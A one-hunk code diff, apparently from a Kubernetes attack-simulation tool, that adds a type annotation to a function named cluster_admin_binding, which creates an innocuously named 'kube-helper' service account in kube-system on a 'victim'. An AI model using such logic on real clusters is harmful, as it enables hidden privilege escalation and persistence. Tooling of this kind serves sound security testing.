@@ -156,6 +156,7 @@ def cluster_admin_binding(ctx: Context) -> Steps:
     victim = ctx.app(2)
     who = _in_pod(victim, ctx)
     steps: Steps = []
+    subject: dict[str, str | None]
     if ctx.loud:
         steps.append((Call("create", "serviceaccounts", "kube-system", "kube-helper",
                            body={"kind": "ServiceAccount", "apiVersion": "v1",
